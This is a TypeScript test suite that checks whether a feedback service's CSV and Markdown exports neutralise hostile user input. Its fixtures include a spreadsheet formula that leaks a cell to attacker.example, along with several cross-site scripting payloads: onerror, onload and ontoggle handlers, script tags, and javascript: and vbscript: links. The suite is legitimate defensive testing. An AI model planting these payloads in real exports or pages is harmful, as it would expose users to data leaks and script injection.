import { run } from '../src/cli/commands';
import { loadConfig } from '../src/config/config';
import { testConfig } from './support/config';
import { startService, TestService } from './support/service';

/** Cells of RFC 4180 CSV text, line by line, as a spreadsheet reads them: quotes removed, doubled quotes made single. */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let at = 0; at < text.length; at++) {
    const char = text[at];
    if (quoted) {
      if (char === '"' && text[at + 1] === '"') cell += text[++at];
      else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      row.push(cell);
      cell = '';
    } else if (char === '\r' && text[at + 1] === '\n') {
      rows.push([...row, cell]);
      [row, cell] = [[], ''];
      at++;
    } else cell += char;
  }
  return rows;
}

interface MarkdownRenderer {
  render(markdown: string): string;
  validateLink(url: string): boolean;
}

// markdown-it ships no types; this is the little of it that the test uses.
const MarkdownIt = require('markdown-it') as new (options: { html: boolean; linkify: boolean }) => MarkdownRenderer;

/**
 * A renderer as permissive as Markdown renderers get: raw HTML passes
 * through, bare web addresses become links, and no link is filtered by its
 * scheme. Whatever it turns into markup, a browser would too.
 */
const permissive = new MarkdownIt({ html: true, linkify: true });
permissive.validateLink = () => true;

const TAGS_OF_THE_DOCUMENT = new Set(['h1', 'h2', 'h3', 'p', 'ul', 'li', 'strong', 'em', 'blockquote', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a', 'br', 'hr']);

/** The markup that the Markdown renders to: every element with its attributes, and the text people read. */
function rendered(markdown: string) {
  const html = permissive.render(markdown);
  const elements = [...html.matchAll(/<([a-zA-Z][^\s>/]*)([^>]*)>/g)].map(([, tag, attributes]) => ({ tag: tag.toLowerCase(), attributes: attributes.trim() }));
  const decode = (text: string) => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&amp;/g, '&');
  const links = elements.filter(({ tag }) => tag === 'a').map(({ attributes }) => decode(/^href="([^"]*)"$/.exec(attributes)?.[1] ?? attributes));
  return { html, elements, links, text: decode(html.replace(/<[^>]*>/g, '')) };
}

/** What a page would show when it renders the Markdown: only the document's own elements, and links only to web or mail addresses. */
function expectOnlyText(markdown: string): ReturnType<typeof rendered> {
  const page = rendered(markdown);
  expect(page.elements.filter(({ tag }) => !TAGS_OF_THE_DOCUMENT.has(tag))).toEqual([]);
  expect(page.elements.filter(({ tag, attributes }) => attributes !== '' && !(tag === 'a' && /^href="(https?:\/\/|mailto:)[^"]*"$/.test(attributes)))).toEqual([]);
  return page;
}

const FORMULA_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';
const TITLE = 'Live-migrate <img src=x onerror=alert(1)> [now](javascript:alert(1))';
const BODY = [
  'We asked before: \\<img src=x onerror=alert(2)>',
  '<script>alert(3)</script>',
  '![tracker](data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==) and <javascript:alert(5)>',
  '[the spec][spec] and `code` with &lt;b&gt;',
  '',
  '[spec]: vbscript:msgbox(6)',
].join('\n');
const RATIONALE = 'see [the notes](javascript:alert(7)) \\[x\\](javascript:alert(8))';
const NOTE = '<a href="javascript:alert(9)">shipped</a> &amp; done';
const OUTCOME_NOTES = '<svg onload=alert(10)> | [cell](vbscript:msgbox(11))';
const THEME_TITLE = 'Upgrades <iframe src=javascript:alert(12)>';
const BLUEPRINT_TITLE = 'Pinned CPUs <details open ontoggle=alert(13)>';
const SOURCE_URL = 'https://etherpad.example.org/p/ops-meetup?line=12&topic=(migration)';
const RELEASE_NOTES = 'https://docs.openstack.org/releasenotes/nova/queens.html#new-features';

describe('exports keep what people typed from acting', () => {
  let service: TestService;
  let pm: string;

  const cli = async (argv: string[]) => {
    let text = '';
    const code = await run(testConfig(service.database), argv, (chunk) => (text += chunk));
    expect(code).toBe(0);
    return text;
  };

  beforeAll(async () => {
    service = await startService({ webhooks: { ...loadConfig({}).webhooks, pollMs: 0 } });
    const operator = await service.actor('OPERATOR', 'Olga Operator');
    pm = (await service.actor('PRODUCT_MANAGER', 'Pat Manager')).token;
    const lead = (await service.actor('TECH_LEAD', 'Tom Lead')).token;
    const { api } = service;
    await api.submitFeedback(operator.token, {
      title: TITLE,
      body: BODY,
      origin: 'OPERATOR',
      organization: '<b>Example</b> Cloud',
      projects: ['nova'],
      sourceUrl: SOURCE_URL,
    });
    for (const title of [FORMULA_TITLE, '+1 for pinned CPUs', '-2 days of downtime', '@channel please look', 'Harmless;=HYPERLINK("http://attacker.example/")']) {
      await api.submitFeedback(operator.token, { title, origin: 'OPERATOR' });
    }
    await api.triageFeedback(pm, { key: 'FB-1', note: 'ok' });
    await api.createTheme(pm, { title: THEME_TITLE, kind: 'THEME', targetRelease: 'Queens' });
    await api.linkFeedbackToTheme(pm, { feedbackKey: 'FB-1', themeKey: 'TH-1', rationale: RATIONALE });
    await api.createBlueprint(lead, { project: 'nova', name: 'pinned-cpus', title: BLUEPRINT_TITLE, targetRelease: 'Queens' });
    await api.linkBlueprint(lead, { project: 'nova', name: 'pinned-cpus', themeKey: 'TH-1' });
    await api.recordReleaseOutcome(pm, { project: 'nova', name: 'pinned-cpus', release: 'Queens', result: 'DELIVERED', notes: OUTCOME_NOTES, releaseNoteUrl: RELEASE_NOTES });
    await api.closeLoop(pm, { key: 'FB-1', resolution: 'DELIVERED', note: NOTE });
  });

  afterAll(async () => {
    await service.close();
  });

  it('writes no cell of the loops CSV that a spreadsheet would run as a formula', async () => {
    const { loopsCsv } = await service.ok<{ loopsCsv: string }>(pm, `{ loopsCsv }`);
    for (const csv of [loopsCsv, await cli(['export', 'loops', '--format', 'csv'])]) {
      const rows = csvCells(csv);
      expect(rows).toHaveLength(7);
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      const titles = rows.slice(1).map((row) => row[1]);
      expect(titles).toEqual(expect.arrayContaining([`'${FORMULA_TITLE}`, "'+1 for pinned CPUs", "'-2 days of downtime", "'@channel please look"]));
      expect(csv).toContain(`,"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")",`);
      expect(csv).toContain(',"Harmless;=HYPERLINK(""http://attacker.example/"")",');
    }
  });

  it('renders the trace as Markdown in which every typed text stays text and only the service’s web addresses are links', async () => {
    const { loop } = await service.ok<{ loop: { markdown: string } }>(pm, `{ loop(key: "FB-1") { markdown } }`);
    for (const markdown of [loop.markdown, await cli(['export', 'loop', 'FB-1'])]) {
      const page = expectOnlyText(markdown);
      expect(page.links).toEqual(expect.arrayContaining([SOURCE_URL, RELEASE_NOTES]));
      for (const typed of [TITLE, RATIONALE, NOTE, THEME_TITLE, BLUEPRINT_TITLE, '<b>Example</b> Cloud', ...BODY.split('\n').filter(Boolean)]) {
        expect({ typed, shown: page.text.includes(typed) }).toEqual({ typed, shown: true });
      }
      expect(page.text).toContain('<svg onload=alert(10)> | [cell](vbscript:msgbox(11))');
    }
  });

  it('renders the release report as Markdown with the same care', async () => {
    const { release } = await service.ok<{ release: { report: string } }>(pm, `{ release(name: "Queens") { report } }`);
    for (const markdown of [release.report, await cli(['export', 'release', 'Queens'])]) {
      const page = expectOnlyText(markdown);
      expect(page.links).toEqual([]);
      for (const typed of [TITLE, THEME_TITLE, OUTCOME_NOTES]) {
        expect({ typed, shown: page.text.includes(typed) }).toEqual({ typed, shown: true });
      }
    }
  });
});
